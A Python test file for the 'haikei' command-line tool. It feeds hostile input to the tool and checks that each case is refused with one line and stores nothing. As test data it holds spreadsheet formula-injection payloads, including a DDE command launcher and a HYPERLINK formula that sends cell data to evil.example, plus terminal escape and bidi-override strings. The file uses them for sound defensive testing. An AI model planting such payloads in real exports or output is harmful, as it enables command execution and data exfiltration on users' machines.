"""Hostile and unlucky input to the ``haikei`` command line: one table of cases, each refused with one
line and an exit code, each leaving nothing stored.

To add a case, add one ``Case`` to ``CASES``: the files to drop in a folder (name -> bytes, or a
function that writes them), ``[limits]`` values to set in ``haikei.toml``, the command
line (``{prod}`` is the production folder, ``{drop}`` the folder of dropped files), a regex the one
error line must match, and the exit code. Every case runs the real ``haikei`` entry point
(``haikei.cli.main.main``, as the console script does) on a fresh 64x40 production and checks:
exactly one line on stderr, no traceback, the exit code, and that nothing was stored (every row of
every table and every blob file, by ``tests.conftest.snapshot``; the dropped files untouched).

Faults of issue 14 covered here: 7 (absurd frames and PAN), 8 (one pixel limit), 9 (encodings, NUL),
11 (usage errors); 10 (formula injection), the ``direction`` column and ``haikei verify``'s untrusted
signer are tested below the table, as they are not refusals.
"""

from __future__ import annotations

import csv
import io
import re
import tomllib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest
import tomli_w
from PIL import Image

from haikei.imaging import io as hio
from haikei.imaging.io import encode_region_map, save_png
from tests.conftest import VOCAB, snapshot, tiny_layout, write_layout
from tests.foundation.cli import run_cli

Files = dict[str, bytes] | Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    id: str
    files: Files
    argv: list[str]
    refusal: str  # regex searched in the one error line
    code: int = 2
    limits: dict[str, int] = field(default_factory=dict)  # set in the production's haikei.toml [limits]
    layouts: tuple[str, ...] = field(default=("c001",))  # tiny 64x40 layouts dropped beside the files


IMPORT = ["import", "-p", "{prod}", "{drop}"]


def _big_layout(w: int, h: int) -> Callable[[Path], None]:
    def write(drop: Path) -> None:
        Image.new("L", (w, h), 255).save(drop / "c002_lo.png")

    return write


def _sheet(text: str, encoding: str = "utf-8") -> dict[str, bytes]:
    return {"cutsheet.csv": text.encode(encoding)}


CASES: list[Case] = [
    # 7. absurd frames and PAN lengths: capped in one place ([limits]), refused naming the row
    Case(
        "frame-16384",
        _sheet("cut,frame\nc001,16384x16384\n"),
        IMPORT,
        r"cutsheet\.csv: line 2: frame width '16384' is over the 8192 px limit.*\[limits\] max_frame_side",
    ),
    Case(
        "pan-131072",
        _sheet("cut,pan_length,pan_direction\nc001,131072,right\n"),
        IMPORT,
        r"cutsheet\.csv: line 2: pan_length '131072' is over the 16384 px limit",
    ),
    Case(
        "bg-over-pixel-limit",
        _sheet("cut,frame,pan_length,pan_direction\nc001,8000x8000,16000,right\n"),
        IMPORT,
        r"cutsheet\.csv: line 2: cut c001: the BG would be 16000x8000 \(128\.0 Mpx\), over the 120 Mpx limit",
    ),
    Case(
        "frame-over-a-lowered-limit",
        _sheet("cut,width,height\nc001,1920,1080\n"),
        IMPORT,
        r"line 2: width '1920' is over the 1024 px limit",
        limits={"max_frame_side": 1024},
    ),
    Case(
        "zero-frame",
        _sheet("cut,frame\nc001,0x0\n"),
        IMPORT,
        r"line 2: frame width '0' is under 16 pixels",
    ),
    Case(
        "init-with-an-absurd-frame",
        {},
        ["init", "{drop}/new", "--name", "Huge", "--size", "16384x16384"],
        r"--size: frame 16384x16384 is over the 8192 px limit per side",
    ),
    Case(
        "paint-with-an-absurd-frame",
        {},
        [
            "paint",
            "--artboard",
            "a.png",
            "--artboard-labels",
            "b.png",
            "--layout",
            "{drop}/c001_lo.png",
            "--out",
            "{drop}/out.png",
            "--size",
            "9000x9000",
        ],
        r"--size: frame 9000x9000 is over the 8192 px limit per side",
    ),
    # 8. one pixel limit, haikei's, from haikei.toml
    Case(
        "layout-over-the-pixel-limit",
        _big_layout(1200, 1000),
        IMPORT,
        r"c002_lo\.png: image of 1\.2 Mpx is over the 1 Mpx limit.*\[limits\] max_pixels",
        limits={"max_pixels": 1_000_000},
    ),
    Case(
        "pixel-limit-set-to-nothing",
        {},
        IMPORT,
        r"haikei\.toml: limits\.max_pixels: Input should be greater than or equal to 1000000",
        limits={"max_pixels": 0},
    ),
    # 9. encodings and control characters: refused naming file, row and column
    Case(
        "latin-1-sheet",
        _sheet("cut,notes\nc001,Ñoño señal de tráfico\n", "latin-1"),
        IMPORT,
        r"cutsheet\.csv: line 2, column 2 \(notes\): the file is neither UTF-8 nor Shift_JIS",
    ),
    Case(
        "utf-16-sheet",
        _sheet("cut,notes\nc001,夕方\n", "utf-16"),
        IMPORT,
        r"cutsheet\.csv: the file is UTF-16 text",
    ),
    Case(
        "nul-in-notes",
        _sheet("cut,notes\nc001,rain\x00 at dusk\n"),
        IMPORT,
        r"cutsheet\.csv: line 2: column 'notes' holds the control character U\+0000",
    ),
    Case(
        "nul-in-shift-jis-notes",
        _sheet("cut,備考\nc001,雨\x00上がり\n", "cp932"),
        IMPORT,
        r"cutsheet\.csv: line 2: column '備考' holds the control character U\+0000",
    ),
    Case(
        "terminal-escape-in-notes",
        _sheet("cut,notes\nc001,\x1b[2J\x1b[31mgotcha\n"),
        IMPORT,
        r"line 2: column 'notes' holds the control character U\+001B",
    ),
    Case(
        "bidi-override-in-cut-column",
        _sheet("cut,notes\n\u202ec001,x\n"),
        IMPORT,
        r"line 2: column 'cut' holds the control character U\+202E",
    ),
    Case(
        "nul-in-toml-sheet",
        {"cutsheet.toml": b'[[cut]]\ncut = "c001"\nnotes = "a\\u0000b"\n'},
        IMPORT,
        r"cutsheet\.toml: \[\[cut\]\] #1: column 'notes' holds the control character U\+0000",
    ),
    Case(
        "cell-larger-than-csv-allows",
        _sheet('cut,notes\nc001,"' + "x" * 200_000 + '"\n'),
        IMPORT,
        r"cutsheet\.csv: line 2: not readable as CSV \(field larger than field limit",
    ),
    Case(
        "misspelt-column",
        _sheet("cut,widht\nc001,640\n"),
        IMPORT,
        r"line 1: unknown column 'widht'; did you mean 'width'\?",
    ),
    # 11. usage errors: one line, exit 2, for every command (the full sweep is tests/foundation/test_cli_usage.py)
    Case(
        "render-extra-argument",
        {},
        ["render", "-p", "{prod}", "c113"],
        r"Got unexpected extra argument.*c113",
    ),
    Case(
        "import-without-folder", {}, ["import", "-p", "{prod}"], r"haikei import: Missing argument 'folder'"
    ),
    Case(
        "import-a-file", {}, ["import", "-p", "{prod}", "{drop}/c001_lo.png"], r"c001_lo\.png: not a folder"
    ),
    Case(
        "unknown-option", {}, ["status", "-p", "{prod}", "--evil"], r"haikei status: No such option: --evil"
    ),
    Case(
        "bad-number",
        {},
        ["render", "-p", "{prod}", "--candidates", "1e9"],
        r"Invalid value for '--candidates'",
    ),
    Case(
        "job-id-over-int4",
        {},
        ["jobs", "cancel", "99999999999999999999", "-p", "{prod}"],
        r"Invalid value for 'job_id'.*less than or equal to 2147483647",
    ),
    Case(
        "unknown-job-state",
        {},
        ["jobs", "-p", "{prod}", "--state", "bogus"],
        r"--state bogus: not a job state",
    ),
    Case(
        "seed-over-int64",
        {},
        ["render", "-p", "{prod}", "--seed", "9" * 30, "--no-wait"],
        r"Invalid value for '--seed'",
    ),
    Case(
        "priority-over-int4",
        {},
        ["render", "-p", "{prod}", "--priority", "-" + "9" * 30, "--no-wait"],
        r"Invalid value for '--priority'",
    ),
    Case(
        "organisation-with-a-terminal-escape",
        {},
        ["keys", "init", "-p", "{prod}", "--org", "Evil\x1b[2J Studio"],
        r"organisation name must be 1\.\.64 printable characters",
    ),
    Case(
        "a-folder-where-a-key-file-goes",
        lambda drop: (drop / "keys" / "signer.key").mkdir(parents=True),
        ["keys", "init", "--dir", "{drop}/keys", "--force"],
        r"keys: signer\.key is a folder \(or another non-file\) where a key file goes; nothing was written",
    ),
    Case(
        "escape-sequence-in-a-path",
        {},
        ["import", "-p", "{prod}", "{drop}/evil\x1b[2J\nname"],
        r"evil\\x1b\[2J name: not a folder",
    ),
    Case(
        "escape-sequence-in-artist",
        {},
        ["import", "-p", "{prod}", "{drop}", "--artist", "Aki\x1b[2J"],
        r"--artist 'Aki\\x1b\[2J': a layout artist's name is 0\.\.200 printable characters",
    ),
    Case(
        "candidates-out-of-range",
        {},
        ["render", "-p", "{prod}", "--candidates", "100000"],
        r"--candidates",
    ),
]


def _tree(p: Path) -> dict[str, bytes | None]:
    """Every file (bytes) and folder (None) under p."""
    return {str(f.relative_to(p)): None if f.is_dir() else f.read_bytes() for f in sorted(p.rglob("*"))}


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_cli_input_is_refused_and_stores_nothing(
    case: Case,
    request: pytest.FixtureRequest,
    production,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("HAIKEI_DEBUG", raising=False)
    drop = tmp_path / "drop"
    drop.mkdir()
    for stem in case.layouts:
        write_layout(drop, stem)
    if callable(case.files):
        case.files(drop)
    else:
        for name, data in case.files.items():
            (drop / name).write_bytes(data)
    if case.limits:
        # the pixel limit in force is the process's (the production opened last): put the default back
        # for the tests that follow in this process, whatever this case sets
        request.addfinalizer(lambda: hio.set_max_pixels(hio.MAX_PIXELS))
        cfg = production.root / "haikei.toml"
        doc = tomllib.loads(cfg.read_text(encoding="utf-8"))
        doc.setdefault("limits", {}).update(case.limits)
        cfg.write_text(tomli_w.dumps(doc), encoding="utf-8")
    dropped = _tree(drop)
    before = snapshot(production)
    argv = [a.replace("{prod}", str(production.root)).replace("{drop}", str(drop)) for a in case.argv]
    code, out, err = run_cli(argv, capsys)
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in out + err
    assert re.search(case.refusal, lines[0]), lines[0]
    assert code == case.code, (code, lines[0])
    assert snapshot(production) == before  # a refused request stores nothing
    assert _tree(drop) == dropped


# --------------------------------------------------------------------------- not refusals


FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "@SUM(A1)",
    "-2+3",
)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_formula_cells_are_escaped_in_every_csv(
    production, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 14 #10: an --artist and a display name that are spreadsheet formulas reach the credits CSV
    and cuts.csv escaped with an apostrophe (OWASP), and read back as the text that was typed."""
    from haikei.provenance.keys import init_keys
    from haikei.services.review import approve, bg_detail
    from haikei.services.users import add_user, get_user

    drop = tmp_path / "drop"
    drop.mkdir()
    write_layout(drop, "c001")
    prod = str(production.root)
    assert run_cli(["import", "-p", prod, str(drop), "--artist", FORMULAS[0]], capsys)[0] == 0
    assert run_cli(["render", "-p", prod, "--engine", "baseline", "--candidates", "1"], capsys)[0] == 0
    add_user(production, "evil", "director", password="evil-pass-123", display_name=FORMULAS[1])
    d = bg_detail(production, "c001")
    approve(production, get_user(production, "evil"), "c001", d.bg.current_version_id, d.bg.lock_version)
    init_keys(production.root / "keys", org="Test Studio")

    code, credits_csv, err = run_cli(["credits", "-p", prod, "--format", "csv"], capsys)
    assert code == 0, err
    code, _out, err = run_cli(["export", "-p", prod, "--to", str(tmp_path / "out")], capsys)
    assert code == 0, err
    cuts_csv = (tmp_path / "out" / "cuts.csv").read_text(encoding="utf-8")
    for text in (credits_csv, cuts_csv):
        cells = _cells(text)
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'" + FORMULAS[0] in _cells(credits_csv)
    assert "'" + FORMULAS[1] in _cells(credits_csv) and "'" + FORMULAS[1] in _cells(cuts_csv)


def test_safe_cell_rules() -> None:
    from haikei.domain.spreadsheet import safe_cell

    assert [safe_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [safe_cell(x) for x in ("-3", "+1.5", "2e-3", "Aki", "", None, "＝A1", "\tx")] == [
        "-3",
        "+1.5",
        "2e-3",
        "Aki",
        "",
        "",
        "'＝A1",
        "'\tx",
    ]


def test_direction_column_is_the_art_direction(
    production, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Also seen in issue 14: a cut sheet's ``direction`` column was refused as a misspelling of
    ``pan_direction`` although the importer reads it. It is the BG's art direction now."""
    drop = tmp_path / "drop"
    drop.mkdir()
    write_layout(drop, "c001")
    lines, reg = tiny_layout(40, 64)
    save_png(drop / "c002_lo.png", lines)
    save_png(drop / "c002_regions.png", encode_region_map(reg, VOCAB))
    (drop / "cutsheet.csv").write_text(
        "cut,direction,pan_direction,pan_length\nc001,秋の夕方、逆光,,\nc002,autumn evening,right,64\n",
        encoding="utf-8",
    )
    code, _out, err = run_cli(["import", "-p", str(production.root), str(drop)], capsys)
    assert code == 0, err
    code, out, err = run_cli(["status", "-p", str(production.root), "--json"], capsys)
    assert code == 0, err
    assert "秋の夕方、逆光" in out and "autumn evening" in out


def test_verify_says_valid_but_untrusted(
    production, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Also seen in issue 14: a good signature from another studio's root printed "INVALID (Valid)".
    It says what it is, with its own exit code; a changed pixel is still INVALID (exit 1)."""
    from haikei.cli.provenance import EXIT_UNTRUSTED
    from haikei.provenance.c2pa_sign import ALGORITHMIC_MEDIA, EngineStep, ManifestSpec, sign_png
    from haikei.provenance.keys import init_keys, load_studio_keys

    init_keys(production.root / "keys", org="Our Studio")
    init_keys(tmp_path / "other", org="Another Studio")
    png = tmp_path / "bg.png"
    save_png(png, np.full((40, 64, 3), 120, np.uint8))
    spec = ManifestSpec("c001 BG", (EngineStep("exemplar", "0.3", ALGORITHMIC_MEDIA),))
    sign_png(png, png, spec, load_studio_keys(tmp_path / "other"))
    code, out, _err = run_cli(["verify", "-p", str(production.root), str(png)], capsys)
    assert code == EXIT_UNTRUSTED == 7
    assert out.splitlines()[0] == f"{png}: signature valid, signer not trusted by this production"
    assert "INVALID" not in out
    code, out, _err = run_cli(
        ["verify", "--trust", str(tmp_path / "other" / "root-ca.pem"), str(png)], capsys
    )
    assert code == 0 and "VALID" in out
    data = bytearray(png.read_bytes())
    data[-40] ^= 0xFF  # a changed byte near the end of the image data
    png.write_bytes(bytes(data))
    code, out, _err = run_cli(["verify", "-p", str(production.root), str(png)], capsys)
    assert code == 1 and "INVALID" in out.splitlines()[0]


def test_verify_never_sends_a_files_control_characters_to_the_terminal(
    production, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A neighbour of the verify fault: the title and names in a manifest come from whoever made the
    file; terminal escape sequences and bidi overrides in them are shown escaped, not obeyed."""
    from haikei.provenance.c2pa_sign import ALGORITHMIC_MEDIA, EngineStep, HumanStep, ManifestSpec, sign_png
    from haikei.provenance.keys import init_keys, load_studio_keys

    init_keys(production.root / "keys", org="Our Studio")
    png = tmp_path / "bg.png"
    save_png(png, np.full((40, 64, 3), 120, np.uint8))
    spec = ManifestSpec(
        "c001\x1b[2J\x1b[31m BG",
        (EngineStep("exemplar", "0.3", ALGORITHMIC_MEDIA), HumanStep("\u202eiroM ikA")),
    )
    sign_png(png, png, spec, load_studio_keys(production.root / "keys"))
    code, out, _err = run_cli(["verify", "-p", str(production.root), str(png)], capsys)
    assert code == 0, out
    assert "\x1b" not in out and "\u202e" not in out
    assert "\\u202eiroM ikA" in out


def test_credits_text_shows_control_characters_escaped() -> None:
    """A display name set elsewhere (the web page) may carry an escape sequence: the credits printed to a
    terminal show it, they do not obey it; the CSV keeps the name as typed, formula-safe."""
    from haikei.provenance.credits import CreditsInput, LayoutWork, build_credits, format_credits

    data = CreditsInput(
        production="Show", layouts=[LayoutWork(cut="c001", artist="Aki\x1b]0;pwned\x07 Mori")]
    )
    text = format_credits(build_credits(data), "text")
    assert "\x1b" not in text and "\x07" not in text and "Aki\\x1b]0;pwned\\x07 Mori" in text
